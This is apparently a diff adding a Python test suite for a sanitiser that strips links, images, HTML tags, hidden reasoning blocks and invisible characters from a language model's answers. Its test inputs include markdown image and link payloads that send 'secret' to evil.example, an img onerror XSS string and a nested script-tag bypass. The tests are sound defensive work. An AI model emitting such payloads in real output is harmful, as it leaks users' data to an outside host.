@@ -1,0 +1,99 @@
+"""The way out of a language model: nothing that loads, runs or hides gets through."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from core.answer.clean import clean_answer_text, strip_invisible
+
+NAUGHTY = Path(__file__).parents[4] / "shared" / "data" / "naughty-strings.json"
+PARTS = [
+    "[", "]", "(", ")", "!", "<", ">", "://", "http", "www.", "img", " src=", '"', "1", "a",
+    "<b>", "<think>", "</think>", "<!--", "-->", "\n", " ", ":", "`", "\u200b", "\u202e",
+]  # fmt: skip
+MARKUP = st.lists(st.sampled_from(PARTS), max_size=60).map("".join)
+ALIVE = [
+    re.compile(r"!\["),
+    re.compile(r"\]\("),
+    re.compile(r"<[a-z/!?]", re.IGNORECASE),
+    re.compile(r"://"),
+    re.compile(r"\bwww\.", re.IGNORECASE),
+]
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("Pay [1].", "Pay [1]."),
+        ("Pay [1](http://evil.example/?q=secret).", "Pay [1]."),
+        ("![chart](http://evil.example/?q=secret)", "chart"),
+        ("![chart][ref] here", "chart here"),
+        ('See [the policy](http://x.example "title") now.', "See the policy now."),
+        ("<img src=http://evil.example/x onerror=alert(1)>Hi", "Hi"),
+        ("<<b>script>alert(1)<</b>/script>", "alert(1)"),
+        ("<!-- hidden -->Hi", "Hi"),
+        ("Go to https://evil.example/a and www.evil.example.", "Go to evil.example/a and "
+         "evil.example."),
+        ("<https://evil.example>", "evil.example"),
+        ("<think>I could lie [1].</think>Yes [2].", "Yes [2]."),
+        ("<think>never closed", ""),
+        ("[1]: http://evil.example", "[1] : evil.example"),
+        ("According to [1]: yes.", "According to [1]: yes."),
+        ("p<0.05 and a < b", "p<0.05 and a < b"),
+        ("pa\u200bid\u202e by\x1b[31m noon\r\nok", "paid by[31m noon\nok"),
+        ("t\U000e0061g", "tg"),
+    ],
+)  # fmt: skip
+def test_known_cases(written: str, shown: str) -> None:
+    """Links keep their words, citations stay, the rest of the markup goes."""
+    assert clean_answer_text(written) == shown
+
+
+@given(st.one_of(MARKUP, st.text()))
+def test_nothing_alive_is_left(text: str) -> None:
+    """No image, link, tag, address or invisible character survives, however it is nested."""
+    cleaned = clean_answer_text(text)
+    assert not [pattern.pattern for pattern in ALIVE if pattern.search(cleaned)]
+    assert strip_invisible(cleaned) == cleaned
+
+
+@given(st.one_of(MARKUP, st.text()))
+def test_cleaning_twice_changes_nothing(text: str) -> None:
+    """Cleaning is idempotent, so a stored answer and a new one are shown alike."""
+    once = clean_answer_text(text)
+    assert clean_answer_text(once) == once
+
+
+@given(st.lists(st.from_regex(r"[A-Z][a-z]{2,8} [a-z]{2,8} \[[1-9]\]\.", fullmatch=True)))
+def test_plain_answers_stay_as_they_are(sentences: list[str]) -> None:
+    """What a well-behaved model writes is not touched."""
+    text = " ".join(sentences)
+    assert clean_answer_text(text) == text
+
+
+@pytest.mark.parametrize(
+    "part", ["[", "![", "<", "](", "[a](  ", "<a ", "<!--", "a.", "`", "www.", "[[1](a)"]
+)
+def test_no_input_makes_it_slow(part: str) -> None:
+    """Twenty thousand characters of one construct are cleaned within two seconds."""
+    started = time.perf_counter()
+    clean_answer_text(part * (20_000 // len(part)))
+    assert time.perf_counter() - started < 2
+
+
+def test_naughty_strings() -> None:
+    """The big list of naughty strings leaves nothing alive."""
+    if not NAUGHTY.exists():
+        pytest.skip("the shared folder with the naughty strings is not beside this checkout")
+    strings = json.loads(NAUGHTY.read_text(encoding="utf-8"))
+    assert len(strings) > 400
+    for text in strings:
+        cleaned = clean_answer_text(text)
+        assert not [p.pattern for p in ALIVE if p.search(cleaned)], text
